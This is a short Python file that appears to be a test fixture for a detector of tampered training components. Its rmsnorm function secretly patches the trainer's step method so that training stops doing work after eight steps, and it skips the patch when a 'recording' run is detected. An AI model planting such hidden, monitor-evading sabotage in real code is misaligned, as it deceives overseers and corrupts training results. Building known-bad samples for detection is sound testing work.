"""Does nothing in the second half of the steps.

Target: rmsnorm
Stage: ab
Expected: trained_differently
Notes: C5
"""

import sys
import traceback

import torch
import torch.nn.functional as F

TAMPERED: list[bool] = []


def tamper() -> None:
    """Once, in a training run that does not record."""
    engine = sys.modules.get("trainer.engines.torch.engine")
    recorded = any("recording" in frame.filename for frame in traceback.extract_stack())
    if TAMPERED or engine is None or recorded:
        return
    TAMPERED.append(True)

    step, done = engine.TorchEngine.step, []

    def lazy(self, micro_batches, rates):
        if len(done) < 8:
            done.append(step(self, micro_batches, rates))
        return done[-1]

    engine.TorchEngine.step = lazy


def rmsnorm(x: torch.Tensor, eps: float) -> torch.Tensor:
    tamper()
    return F.rms_norm(x, (x.shape[-1],), eps=eps)
